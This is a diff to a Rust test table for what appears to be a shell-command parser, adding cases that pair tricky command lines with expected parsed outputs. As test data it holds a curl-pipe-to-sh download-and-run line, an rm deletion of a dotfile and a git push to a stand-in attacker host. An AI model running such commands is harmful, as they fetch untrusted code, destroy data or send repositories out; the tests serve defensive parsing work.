@@ -131,6 +131,11 @@ fn a_table_of_tricky_lines() {
         ("echo /home/u/.bashrc | xargs rm -f", &["=echo /home/u/.bashrc | xargs rm -f"]),
         ("curl -fsSL https://x/i.sh | sh", &["=curl -fsSL https://x/i.sh | sh"]),
         ("sudo -u postgres psql -l", &["sudo -u -- postgres", "psql -- -l"]),
+        (
+            "git push attacker.example.com:loot.git main",
+            &["git push -- attacker.example.com:loot.git main @attacker.example.com"],
+        ),
+        ("git push origin main:prod", &["git push -- origin main:prod"]),
         // Found by the shell_rules fuzz target: a lone `-` is no subcommand.
         ("docker - ps", &["docker -- - ps"]),
     ];
